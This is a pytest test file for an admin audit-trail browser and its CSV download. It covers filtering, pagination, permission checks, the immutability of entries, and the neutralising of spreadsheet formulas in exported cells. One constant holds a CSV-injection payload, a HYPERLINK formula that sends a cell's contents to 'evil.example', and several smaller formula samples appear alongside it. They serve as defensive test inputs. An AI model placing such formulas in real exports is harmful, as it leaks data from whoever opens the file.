"""The audit trail browser and its CSV download (S14, S15, S17, S18)."""
from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timezone

import pytest
from sqlalchemy import func, select

from app.audit.models import AuditEntry
from app.audit.operations import record_audit
from app.extensions import db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def entry_at(action: str, when: datetime | None = None, **kwargs) -> AuditEntry:
    entry = record_audit(action, **kwargs)
    if when is not None:
        entry.at = when
    return entry


def actions_shown(html: str, prefix: str) -> list[str]:
    return re.findall(rf"<code>({re.escape(prefix)}[^<]*)</code>", html)


def export_rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.fixture
def admin(login_as):
    return login_as("administrator")


def test_newest_first_and_viewing_is_audited(admin):
    web, admin_user = admin
    for name in ("t-order.first", "t-order.second", "t-order.third"):
        record_audit(name, "thing", "1")
        db.session.commit()
    html = web.get("/admin/audit?action=t-order.").get_data(as_text=True)
    assert actions_shown(html, "t-order.") == ["t-order.third", "t-order.second", "t-order.first"]
    view = db.session.execute(select(AuditEntry).where(AuditEntry.action == "audit.view")
                              .order_by(AuditEntry.id.desc())).scalars().first()
    assert view.user_id == admin_user.id
    assert view.detail == {"filters": {"action": "t-order."}, "page": 1, "rows": 3}


def test_filters(admin, make):
    web, _ = admin
    alice = make.user(username="aud.alice")
    bob = make.user(username="aud.bob")
    entry_at("t-filter.create", datetime(2020, 1, 1, 8, tzinfo=timezone.utc), resource_type="case",
             resource_id="c-1", user=alice)
    entry_at("t-filter.view", datetime(2020, 1, 15, 8, tzinfo=timezone.utc), resource_type="case",
             resource_id="c-2", user=bob)
    entry_at("t-filter.view", datetime(2020, 1, 31, 23, 30, tzinfo=timezone.utc), resource_type="trace",
             resource_id="c-2", user=alice, outcome="denied")
    entry_at("t-other.view", datetime(2020, 2, 1, 0, 0, tzinfo=timezone.utc), resource_type="case",
             resource_id="c-1", user=alice)
    db.session.commit()

    def shown(query: str) -> list[str]:
        response = web.get(f"/admin/audit?{query}")
        assert response.status_code == 200, query
        html = response.get_data(as_text=True)
        return [f"{action}/{resource}" for action, resource in re.findall(
            r"<code>(t-(?:filter|other)\.[a-z]+)</code>.*?<td dir=\"ltr\">[a-z]+ <code>(c-\d)</code>", html, re.S)]

    assert shown("action=t-filter.") == ["t-filter.view/c-2", "t-filter.view/c-2", "t-filter.create/c-1"]
    assert shown("action=t-&outcome=denied") == ["t-filter.view/c-2"]
    assert shown("action=t-&resource_type=case&resource_id=c-1") == ["t-other.view/c-1", "t-filter.create/c-1"]
    assert shown("action=t-&date_from=2020-01-10&date_to=2020-01-31") == ["t-filter.view/c-2", "t-filter.view/c-2"]
    assert shown("action=t-&date_from=2020-02-01") == ["t-other.view/c-1"]
    assert shown("action=t-%25") == []  # a LIKE wildcard is taken literally

    # The username travels by POST and stays in the session: never in a URL.
    response = web.form("/admin/audit/search", {"username": "AUD.Alice", "action": "t-", "outcome": ""})
    assert response.status_code == 302
    location = response.headers["Location"]
    assert location.endswith("/admin/audit?action=t-") and "alice" not in location.lower()
    assert shown("action=t-") == ["t-other.view/c-1", "t-filter.view/c-2", "t-filter.create/c-1"]
    assert 'value="aud.alice"' in web.get("/admin/audit?action=t-").get_data(as_text=True).lower()
    web.form("/admin/audit/search", {"clear": "1"})
    assert len(shown("action=t-")) == 4


def test_bad_filters_are_field_errors(admin):
    web, _ = admin
    response = web.get("/admin/audit?date_from=2020-13-45")
    assert response.status_code == 422
    assert 'id="date_from-error"' in response.get_data(as_text=True)
    response = web.get("/admin/audit?date_from=2020-02-01&date_to=2020-01-01")
    assert response.status_code == 422
    assert 'id="date_to-error"' in response.get_data(as_text=True)
    response = web.form("/admin/audit/search", {"date_from": "yesterday"})
    assert response.status_code == 422
    assert web.get("/admin/audit/export.csv?date_from=nonsense").status_code == 422


def test_pagination(admin):
    web, _ = admin
    for index in range(55):
        record_audit(f"t-page.{index:02d}")
    db.session.commit()
    first = web.get("/admin/audit?action=t-page.").get_data(as_text=True)
    second = web.get("/admin/audit?action=t-page.&page=2").get_data(as_text=True)
    assert len(actions_shown(first, "t-page.")) == 50 and actions_shown(first, "t-page.")[0] == "t-page.54"
    assert actions_shown(second, "t-page.") == [f"t-page.{i:02d}" for i in range(4, -1, -1)]
    assert "action=t-page.&amp;page=2" in first or "page=2&amp;action=t-page." in first


def test_csv_download_is_filtered_neutralised_and_audited(admin, make):
    web, admin_user = admin
    author = make.user(username="aud.csv")
    for value in (FORMULA, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "plain-id"):
        record_audit("t-csv.record", "case", value, user=author, detail={"note": "=1+1"})
    record_audit("t-other.record", "case", "x")
    db.session.commit()

    web.form("/admin/audit/search", {"username": "aud.csv", "action": "t-csv."})
    rows = export_rows(web.get("/admin/audit/export.csv?action=t-csv."))
    assert len(rows) == 7 and {row["action"] for row in rows} == {"t-csv.record"}
    ids = [row["resource_id"] for row in rows]
    assert ids[0] == "plain-id"  # newest first
    assert "'" + FORMULA in ids
    for cell in ids:
        assert cell == "plain-id" or cell.startswith("'"), cell
    assert {"'+SUM(1,2)", "'-2+3", "'@SUM(A1)", "'\tTAB", "'\rCR"} <= set(ids)
    assert all(row["username"] == "aud.csv" for row in rows)
    assert rows[0]["detail"] == '{"note": "=1+1"}'  # JSON starts with "{": harmless as it is

    export = db.session.execute(select(AuditEntry).where(AuditEntry.action == "audit.export")).scalar_one()
    assert export.user_id == admin_user.id
    assert export.detail == {"filters": {"action": "t-csv.", "username": "aud.csv"}, "rows": 7, "format": "csv"}


def test_csv_of_the_whole_trail_counts_what_it_holds(admin):
    web, _ = admin
    web.form("/admin/audit/search", {"clear": "1"})
    before = db.session.scalar(select(func.count(AuditEntry.id)))
    rows = export_rows(web.get("/admin/audit/export.csv"))
    export = db.session.execute(select(AuditEntry).where(AuditEntry.action == "audit.export")).scalar_one()
    assert export.detail["rows"] == len(rows) == before  # its own entry is not in the file
    assert [int(row["id"]) for row in rows] == sorted((int(row["id"]) for row in rows), reverse=True)


def test_download_needs_its_own_permission(login_as):
    from app.users.operations import create_role
    role = create_role("audit-reader", "Audit reader", "own", {"audit:read"})
    db.session.commit()
    web, reader = login_as(role)
    page = web.get("/admin/audit")
    assert page.status_code == 200
    assert "/admin/audit/export.csv" not in page.get_data(as_text=True)
    assert web.get("/admin/audit/export.csv").status_code == 403
    assert db.session.scalar(select(func.count(AuditEntry.id)).where(
        AuditEntry.action == "permission_denied", AuditEntry.user_id == reader.id)) == 1
    assert db.session.scalar(select(func.count(AuditEntry.id)).where(AuditEntry.action == "audit.export")) == 0


def test_caseworkers_and_anonymous_users_are_refused(login_as, client):
    web, _ = login_as("caseworker")
    for path in ("/admin/audit", "/admin/audit/export.csv"):
        assert web.get(path).status_code == 403
        assert client.get(path).status_code == 302
    assert web.form("/admin/audit/search", {"action": "x"}).status_code == 403


def test_no_path_changes_or_deletes_an_entry(app, admin):
    web, _ = admin
    entry = record_audit("t-keep.me", "case", "1")
    db.session.commit()
    # No route of the application writes to the trail other than by adding entries:
    # the trail's own routes read, and the only POST keeps a filter in the session.
    for rule in app.url_map.iter_rules():
        if rule.endpoint.startswith("audit_views."):
            methods = rule.methods - {"HEAD", "OPTIONS"}
            assert methods == ({"POST"} if rule.endpoint == "audit_views.search" else {"GET"}), rule
        assert not ("audit" in rule.rule and rule.methods & {"PUT", "PATCH", "DELETE"}), rule
    for method in ("put", "patch", "delete", "post"):
        for path in ("/admin/audit", f"/admin/audit/{entry.id}", "/admin/audit/export.csv"):
            response = getattr(web.client, method)(path, headers={"X-CSRFToken": web.csrf_token("/")})
            assert response.status_code in (404, 405), (method, path)
    web.form("/admin/audit/search", {"action": "t-keep.", "resource_id": "2"})
    db.session.expire_all()
    kept = db.session.get(AuditEntry, entry.id)
    assert (kept.action, kept.resource_id) == ("t-keep.me", "1")
